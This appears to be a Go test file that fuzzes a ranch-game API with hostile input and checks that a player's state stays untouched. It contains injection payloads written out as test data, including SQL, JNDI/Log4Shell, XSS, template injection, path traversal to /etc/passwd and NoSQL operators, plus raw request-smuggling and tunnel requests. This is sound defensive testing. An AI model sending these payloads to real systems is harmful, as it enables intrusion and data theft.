package blackbox

import (
	"bufio"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"
)

// victim is a player in the middle of the game: with an entry in an open show, a prize to claim, and gold.
type victim struct {
	*player
	open, judged exhibit
}

func newVictim(t testing.TB) victim {
	t.Helper()
	v := victim{newPlayer(t), newShow(t, scene{fee: 20}), newShow(t, scene{tier: "elite", fee: 5})}
	v.entered(t, v.open.id, v.buck)
	v.entered(t, v.judged.id, v.bessie)
	reader(t).judge(t, v.judged.id).object(t, 200)
	return v
}

// state is everything of a victim that could change.
func (v victim) state(t testing.TB) object {
	t.Helper()
	return object{
		"user": set(t, "user", "get", v.id), "ledger": v.ledger(t), "animals": herd(t, v.token),
		"open": detail(t, v.open.id), "judged": detail(t, v.judged.id),
		"listed": get(t, v.token, "/events/shows?status=&tier="+v.open.tier).list(t), "season": season(t, v.player).object(t, 200),
		"session": refresh(t, v.refresh).status,
	}
}

// unchanged returns a check that nothing of the victim has changed since.
func (v victim) unchanged(t *testing.T) (check func()) {
	t.Helper()
	before := v.state(t)
	return func() {
		t.Helper()
		if diff := cmp.Diff(before, v.state(t)); diff != "" {
			t.Errorf("the state has changed (-before +after):\n%s", diff)
		}
	}
}

// answers are the error codes that an endpoint may answer rubbish with, by its route; "" stands for success without
// effect.
var answers = map[string][]string{
	"POST/auth/register":                  {"VALIDATION_ERROR"},
	"POST/auth/login":                     {"VALIDATION_ERROR", "INVALID_CREDENTIALS"},
	"POST/auth/refresh":                   {"MISSING_TOKEN", "INVALID_TOKEN"},
	"POST/auth/logout":                    {""},
	"GET/animals":                         {"", "UNAUTHORIZED"},
	"GET/events/shows":                    {"", "UNAUTHORIZED"},
	"GET/events/season":                   {"", "UNAUTHORIZED"},
	"GET/events/shows/{id}":               {"", "NOT_FOUND", "UNAUTHORIZED"},
	"POST/events/shows/{id}/enter":        {"VALIDATION_ERROR", "NOT_FOUND", "UNAUTHORIZED"},
	"POST/events/shows/{id}/judge":        {"NOT_FOUND", "UNAUTHORIZED"},
	"POST/events/shows/{id}/claim-reward": {"NOT_FOUND", "UNAUTHORIZED"},
}

// harmless checks that the answer is one of the endpoint's own refusals.
func (r reply) harmless(t testing.TB, route string) {
	t.Helper()
	hostile.Add(1)
	allowed, known := answers[route]
	if !known {
		t.Fatalf("no such route: %s", route)
	}
	v, err := decode(r.body)
	if err != nil {
		t.Errorf("%s: %v", r, err)
	}
	code := ""
	if o, ok := v.(object); ok && o["error"] != nil {
		code, _ = o["error"].(string)
	}
	if o, ok := v.(object); ok && suite.own == nil && r.status >= 400 && r.status < 500 && len(o) == 1 && o["message"] != nil {
		return // what stands before a deployed stack has refused it already
	}
	if (code == "") != (r.status < 300) || !slices.Contains(allowed, code) {
		t.Errorf("%s: %q is none of %q", r, code, allowed)
	}
}

// TestHostile_anyJSON sends JSON of any shape, with the API's own names among others, to every endpoint that reads a
// body.
func TestHostile_anyJSON(t *testing.T) {
	t.Parallel()
	v := newVictim(t)
	defer v.unchanged(t)()
	names := rapid.OneOf(rapid.SampledFrom([]string{
		"email", "username", "password", "ranchName", "refreshToken", "animalId", "Email", "animalid", "REFRESHTOKEN", "id", "user", "sub", "__proto__",
		"constructor", "$ne", "", "\x00", "ranch name",
	}), rapid.String())
	texts := rapid.OneOf(rapid.String(), rapid.SampledFrom([]string{
		"", " ", "null", "a@b", "' OR '1'='1", "${jndi:ldap://127.0.0.1/x}", "{{7*7}}", "<script>", "../../etc/passwd", "USER#" + v.id, "\u202e", "😀", "\ufffd",
		strings.Repeat("a", 5_000), "attribute_exists(PK)", ":active", "#n", "%00", v.id, v.open.id, v.username,
	}))
	values := rapid.Deferred(func() *rapid.Generator[any] {
		return rapid.Custom(func(r *rapid.T) any { return anyValue(r, names, texts, 3) })
	})
	routes := []string{"/auth/register", "/auth/login", "/auth/refresh", "/auth/logout", "/events/shows/" + v.open.id + "/enter"}
	rapid.Check(t, func(r *rapid.T) {
		body := object{}
		for range rapid.IntRange(0, 6).Draw(r, "members") {
			body[names.Draw(r, "name")] = values.Draw(r, "value")
		}
		var sent any = body
		if rapid.IntRange(0, 4).Draw(r, "bare") == 0 {
			sent = values.Draw(r, "body")
		}
		for _, path := range routes {
			answer := post(t, v.token, path, sent)
			answer.harmless(t, answer.route())
		}
	})
}

func anyValue(r *rapid.T, names, texts *rapid.Generator[string], depth int) any {
	kinds := 5
	if depth == 0 {
		kinds = 3
	}
	switch rapid.IntRange(0, kinds).Draw(r, "kind") {
	case 0:
		return nil
	case 1:
		return rapid.Bool().Draw(r, "bool")
	case 2:
		return rapid.OneOf(rapid.Float64Range(-1e300, 1e300), rapid.SampledFrom([]float64{0, -1, 1 << 53, 1e-9})).Draw(r, "number")
	case 3:
		return texts.Draw(r, "text")
	case 4:
		l := list{}
		for range rapid.IntRange(0, 3).Draw(r, "length") {
			l = append(l, anyValue(r, names, texts, depth-1))
		}
		return l
	default:
		o := object{}
		for range rapid.IntRange(0, 3).Draw(r, "members") {
			o[names.Draw(r, "name")] = anyValue(r, names, texts, depth-1)
		}
		return o
	}
}

// TestHostile_anyText sends text that is almost JSON: a good body with one stretch cut out, doubled or replaced.
func TestHostile_anyText(t *testing.T) {
	t.Parallel()
	v := newVictim(t)
	defer v.unchanged(t)()
	good := map[string]string{
		"/auth/login":   string(encode(object{"email": candidate().email, "password": "a password"})),
		"/auth/refresh": string(encode(object{"refreshToken": v.token})),
		"/auth/logout":  string(encode(object{"refreshToken": v.token})),
		"/events/shows/" + v.judged.id + "/enter": string(encode(object{"animalId": v.buck})),
		"/auth/register": string(encode(candidate().with(object{"email": "no-address"}))),
	}
	paths := slices.Sorted(maps.Keys(good))
	rapid.Check(t, func(r *rapid.T) {
		path := rapid.SampledFrom(paths).Draw(r, "path")
		body := good[path]
		from := rapid.IntRange(0, len(body)).Draw(r, "from")
		to := min(len(body), from+rapid.IntRange(0, 4).Draw(r, "length"))
		with := rapid.OneOf(rapid.Just(""), rapid.Just(body[from:to]+body[from:to]), rapid.String(), rapid.SampledFrom([]string{
			"\x00", "\xff", "\\ud800", "\\u0000", "{", "}", "[", "\"", ",", ":", "1e999", "-", "\n", "\u2028", "//", "\\x41",
		})).Draw(r, "with")
		answer := post(t, v.token, path, body[:from]+with+body[to:])
		answer.harmless(t, answer.route())
	})
}

// Texts that mean something elsewhere are texts like any other: they come back as they were sent, and a password is
// good as it was sent.
func TestHostile_storedTexts(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"'; DROP TABLE ranch; --", "${jndi:ldap://example.com/x}", "{{constructor}}", "<script>alert(1)</script>", "nul \x00 inside", "line\nbreak\ttab\r", "\u202eright to left",
		"e\u0301 is not é", "\u2028\u2029\ufeff", "null", "%s%n%x%00", "\\u0041 \\\" \\", "USER#" + newID(), strings.Repeat("\u0000", 100), "👩‍👩‍👧‍👦 👍🏽 \U0010ffff",
	} {
		hostile.Add(1)
		p := candidate()
		p.ranch, p.password = text, text+" and enough of it"
		register(t, p.form()).object(t, 201)
		if ranch := p.account(t)["ranch"].(object); ranch["name"] != text {
			t.Errorf("%q came back as %q", text, ranch["name"])
		}
	}
	// Half of a character is no text, but no reason to fail either.
	for _, half := range []string{`"\ud800 a ranch"`, `"a ranch \udfff"`, `"\udc00\ud800 ranch"`} {
		hostile.Add(1)
		p := candidate()
		p.ranch, p.password = "the ranch", "the password"
		body := strings.NewReplacer(`"the ranch"`, half, `"the password"`, half).Replace(string(encode(p.form())))
		if answer := register(t, body); answer.status == 201 {
			credentials := fmt.Sprintf(`{"email":%q,"password":%s}`, p.email, half)
			login(t, credentials).object(t, 200)
		} else {
			answer.object(t, 400)
		}
	}
}

// Of members that are there twice, one counts: the others are not mixed in, and nothing breaks.
func TestHostile_duplicateMembers(t *testing.T) {
	t.Parallel()
	v := newVictim(t)
	defer v.unchanged(t)()
	for path, body := range map[string]string{
		"/auth/login":                           `{"email":"a@example.com","email":7,"password":"x","password":null}`,
		"/auth/register":                        `{"email":7,"email":"a@example.com","username":"abc","username":[],"password":"","ranchName":{},"ranchName":1}`,
		"/auth/refresh":                         `{"refreshToken":7,"refreshToken":[],"refreshToken":{"a":1}}`,
		"/auth/logout":                          `{"refreshToken":7,"refreshToken":"x","refreshToken":null}`,
		"/events/shows/" + v.open.id + "/enter": `{"animalId":7,"animalId":null,"animalId":"x"}`,
	} {
		answer := post(t, v.token, path, body)
		answer.harmless(t, answer.route())
	}
}

// TestHostile_headersAndQueries sends odd headers and queries to every endpoint, with and without a token.
func TestHostile_headersAndQueries(t *testing.T) {
	t.Parallel()
	v := newVictim(t)
	defer v.unchanged(t)()
	odd := []http.Header{
		{"X-Http-Method-Override": {"DELETE"}}, {"X-Forwarded-For": {"127.0.0.1, ::1"}, "X-Forwarded-Proto": {"gopher"}, "Forwarded": {"for=_x"}},
		{"X-Amz-Invocation-Type": {"Event"}, "X-Amzn-Trace-Id": {"Root=x"}}, {"Accept": {"text/html"}, "Accept-Encoding": {"gzip;q=x, *;q=-1, ,;;,"}}, {"Cookie": {"a=b", "c", ";;;"}},
		{"X-User-Id": {v.id}, "X-Sub": {v.id}, "Lambda-Runtime-Aws-Request-Id": {"x"}}, {"Content-Encoding": {"gzip"}}, {"Range": {"bytes=0-1"}, "If-None-Match": {"*"}},
		{"Origin": {"null"}}, {"Origin": {"https://a.example, https://b.example"}}, {"Accept-Language": {strings.Repeat("x", 5_000)}}, {"X-Odd": {"\t\x80\xff ü😀"}},
		{"Idempotency-Key": {"x"}}, {"Transfer-Encoding": {"chunked"}}, {"Te": {"trailers"}}, {"Upgrade": {"websocket"}, "Connection": {"Upgrade"}}, {"User-Agent": {""}},
	}
	queries := []string{
		"?", "?&", "?=", "?%", "?%zz=%", "?tier=" + unique() + "&%00=%00", "?a=1;b=2", "?" + strings.Repeat("a=b&", 500), "?tier=" + unique() + "&status[$ne]=x",
		"?user=" + v.id + "&playerId=" + v.id, "?\xff=\xff", "?😀", "?tier=" + unique() + "&tier=%F0%9F", "?callback=alert(1)", "?sub=x#fragment",
	}
	targets := append(protected(), request{method: "POST", path: "/auth/login", body: "{}"}, request{method: "POST", path: "/auth/refresh", body: "{}"},
		request{method: "POST", path: "/auth/logout", body: "{}"}, request{method: "POST", path: "/auth/register", body: "{}"})
	for _, r := range targets {
		for _, token := range []string{"", v.token} {
			r.token = token
			for _, header := range odd {
				r.header = header
				if header.Get("Upgrade") != "" && suite.own == nil {
					continue // what stands before a deployed stack has its own mind
				}
				send(t, r).harmless(t, r.route())
			}
			r.header = nil
			path := r.path
			for _, query := range queries {
				r.path = path + query
				send(t, r).harmless(t, r.route())
			}
			r.path = path
		}
	}
}

// TestHostile_connections says things that are no HTTP, which a client library would not, and looks whether the service
// is still there.
func TestHostile_connections(t *testing.T) {
	t.Parallel()
	ownStack(t, "what stands before a deployed stack has its own mind")
	v := newVictim(t)
	defer v.unchanged(t)()
	head := func(lines ...string) string { return strings.Join(lines, "\r\n") + "\r\n\r\n" }
	address := strings.TrimPrefix(suite.own.api, "http://")
	host := "Host: " + address
	enter := "POST /events/shows/" + v.open.id + "/enter HTTP/1.1"
	body := string(encode(object{"animalId": v.millie}))
	for name, raw := range map[string]string{
		"nothing": "\r\n\r\n", "rubbish": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc", "no version": "GET /animals\r\n\r\n", "version 9": head("GET /animals HTTP/9.9", host),
		"no host": head("GET /animals HTTP/1.1"), "two hosts": head("GET /animals HTTP/1.1", "Host: a", "Host: b"), "bad header": head("GET /animals HTTP/1.1", host, "no colon"),
		"space in name":   head("GET /animals HTTP/1.1", host, "Authorization : Bearer "+v.token),
		"negative length": head(enter, host, "Content-Length: -1"), "length no number": head(enter, host, "Content-Length: many"),
		"two lengths":          head(enter, host, "Authorization: Bearer "+v.token, "Content-Length: 3", fmt.Sprintf("Content-Length: %d", len(body))) + body,
		"bad chunks":           head(enter, host, "Authorization: Bearer "+v.token, "Transfer-Encoding: chunked") + "zz\r\n" + body,
		"unknown encoding":     head(enter, host, "Authorization: Bearer "+v.token, "Transfer-Encoding: sideways") + body,
		"NUL in the path":      head("GET /ani\x00mals HTTP/1.1", host),
		"space in the path":    head("GET /animals /x HTTP/1.1", host),
		"header of a megabyte": head("GET /animals HTTP/1.1", host, "X: "+strings.Repeat("x", 1<<20)),
		"path of a megabyte":   head("GET /"+strings.Repeat("x", 1<<20)+" HTTP/1.1", host),
		"10,000 headers":       head("GET /animals HTTP/1.1", host+strings.Repeat("\r\nX: y", 10_000)),
		"absolute elsewhere":   head("GET http://elsewhere.example/nothing HTTP/1.1", "Host: elsewhere.example"),
		"a tunnel":             head("CONNECT 127.0.0.1:22 HTTP/1.1", "Host: 127.0.0.1:22"),
		"star":                 head("GET * HTTP/1.1", host), "no slash": head("GET animals HTTP/1.1", host),
		"control in a header": head("GET /animals HTTP/1.1", host, "Authorization: Bearer \x01"),
	} {
		t.Run(name, func(t *testing.T) {
			hostile.Add(1)
			connection, err := net.Dial("tcp", address)
			if err != nil {
				t.Fatal(err)
			}
			defer connection.Close()
			if err := connection.SetDeadline(time.Now().Add(10 * time.Second)); err != nil {
				t.Fatal(err)
			}
			go func() {
				_, _ = io.WriteString(connection, raw) // the server may hang up before the end
				_ = connection.(*net.TCPConn).CloseWrite()
			}()
			answer, err := http.ReadResponse(bufio.NewReader(connection), nil)
			if err != nil {
				return // hung up without a word
			}
			defer answer.Body.Close()
			if answer.StatusCode < 400 || answer.StatusCode >= 500 && answer.StatusCode != 501 && answer.StatusCode != 505 {
				t.Errorf("the answer is %s", answer.Status)
			}
		})
	}
	herd(t, v.token)
}
